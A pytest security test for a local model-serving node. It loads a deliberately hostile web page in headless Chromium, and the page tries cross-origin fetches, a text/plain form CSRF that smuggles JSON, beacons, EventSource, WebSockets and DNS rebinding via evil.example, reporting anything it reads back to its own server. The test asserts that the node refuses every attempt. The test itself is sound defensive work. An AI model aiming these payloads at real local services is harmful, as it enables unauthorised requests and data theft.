"""A page on another origin in a real browser: whatever it tries, nothing runs at the node and nothing is read."""

from __future__ import annotations

import asyncio
import shutil
import tempfile
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest
from aiohttp import web

from tests.doubles.running_node import RunningNode, ready
from tests.doubles.scripted_engine import ScriptedEngine, saying

BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome", "chrome"))), None)
BROWSER_S = 60.0  # it starts in two seconds on an idle machine

pytestmark = pytest.mark.skipif(BROWSER is None, reason="no Chromium on this machine")

# Each try says what it read; "nothing" is what it should be. The last line tells the test that the page is done.
PAGE = """<!doctype html><title>evil</title>
<img src="NODE/v1/models"><script src="NODE/v1/models"></script><link rel="stylesheet" href="NODE/docs">
<iframe name="sink"></iframe><iframe src="NODE/v1/models"></iframe>
<form id="f" target="sink" method="post" enctype="text/plain" action="NODE/v1/chat/completions">
<input name='{"model":"swarm","messages":[{"role":"user","content":"form"}],"x":"' value='"}'></form>
<script>
const body = JSON.stringify({model: "swarm", messages: [{role: "user", content: "fetch"}], max_tokens: 1})
const tell = (what) => fetch("/told", {method: "POST", body: what})
const read = async (name, tried) => {
  let got = ""
  try { got = await tried() } catch (e) {}
  await tell(name + ": " + (got || "nothing"))
}
const text = async (url, options) => (await fetch(url, options)).text()
const post = (more) => ({method: "POST", body, ...more})
const socket = () => new Promise((done, failed) => {
  const ws = new WebSocket("NODE".replace("http", "ws") + "/v1/chat/completions")
  ws.onopen = () => { ws.send(body); done("opened") }
  ws.onerror = failed
})
const everything = async () => {
  await read("get", () => text("NODE/v1/models"))
  await read("peers", () => text("NODE/federation/v1/node"))
  await read("health", () => text("NODE/v1/federation/health"))
  await read("no-cors get", () => text("NODE/v1/models", {mode: "no-cors"}))
  await read("post", () => text("NODE/v1/chat/completions", post({headers: {"Content-Type": "application/json"}})))
  await read("no-cors post", () => text("NODE/v1/chat/completions", post({mode: "no-cors"})))
  await read("no-cors candidates", () => text("NODE/federation/v1/candidates", post({mode: "no-cors"})))
  await read("urlencoded", () => text("NODE/v1/chat/completions",
    post({mode: "no-cors", headers: {"Content-Type": "application/x-www-form-urlencoded"}})))
  await read("beacon", () => { navigator.sendBeacon("NODE/v1/chat/completions", body) })
  await read("event source", () => new Promise((done, failed) => {
    const source = new EventSource("NODE/v1/models"); source.onopen = () => done("opened"); source.onerror = failed }))
  await read("web socket", socket)
  document.getElementById("f").submit()
  await new Promise(done => document.querySelector("iframe").addEventListener("load", done))
  await tell("done")
}
everything()
</script>
"""


@asynccontextmanager
async def evil_page(node_url: str) -> AsyncIterator[tuple[str, list[str], asyncio.Event]]:
    """The page's address, what it told its server, and whether it has tried everything."""
    told: list[str] = []
    done = asyncio.Event()

    async def page(_: web.Request) -> web.Response:
        return web.Response(text=PAGE.replace("NODE", node_url), content_type="text/html")

    async def tell(request: web.Request) -> web.Response:
        told.append(await request.text())
        if told[-1] == "done":
            done.set()
        return web.Response()

    app = web.Application()
    app.router.add_get("/", page)
    app.router.add_post("/told", tell)
    runner = web.AppRunner(app, shutdown_timeout=0.01)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    try:
        yield f"http://localhost:{runner.addresses[0][1]}/", told, done
    finally:
        await runner.cleanup()


@asynccontextmanager
async def browser_at(url: str, *options: str) -> AsyncIterator[None]:
    assert BROWSER is not None
    with tempfile.TemporaryDirectory(prefix="browser-", ignore_cleanup_errors=True) as profile:
        process = await asyncio.create_subprocess_exec(
            BROWSER, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage",
            "--disable-background-networking", "--remote-debugging-port=0", f"--user-data-dir={profile}", *options, url,
            stdout=asyncio.subprocess.DEVNULL, stderr=asyncio.subprocess.DEVNULL, start_new_session=True,
        )  # fmt: skip
        try:
            yield
        finally:
            await end(process)


async def end(process: asyncio.subprocess.Process) -> None:
    """The browser and all of its helpers."""
    import psutil

    family = psutil.Process(process.pid).children(recursive=True)
    process.kill()
    for member in family:
        if member.is_running():
            member.kill()
    await process.wait()


@pytest.mark.parametrize("rebound", [False, True], ids=["another origin", "a name made to lead here"])
async def test_a_page_of_somebody_elses_gets_nothing(rebound: bool) -> None:
    engine = ScriptedEngine(saying("secret"), model_id="m")
    async with RunningNode("kitchen", ready(engine)) as kitchen:
        node_url = f"http://evil.example:{kitchen.address.port}" if rebound else kitchen.url
        async with (
            evil_page(node_url) as (url, told, done),
            browser_at(url, "--host-resolver-rules=MAP evil.example 127.0.0.1"),
        ):
            async with asyncio.timeout(BROWSER_S):
                await done.wait()
        tried = [line for line in told if line != "done"]
        assert len(tried) == 11, told
        assert all(line.endswith(": nothing") for line in tried), told
        assert engine.requests == [], "nothing ran"
        metrics = (await ask(kitchen, "/metrics")).decode()
        assert 'route="/v1/chat/completions",status="200"' not in metrics
        assert 'status="403"' in metrics, "it did reach the node, which refused it"


async def ask(node: RunningNode, path: str) -> bytes:
    reader, writer = await asyncio.open_connection(*node.address)
    writer.write(f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
    answer = await reader.read()
    writer.transport.abort()
    return answer
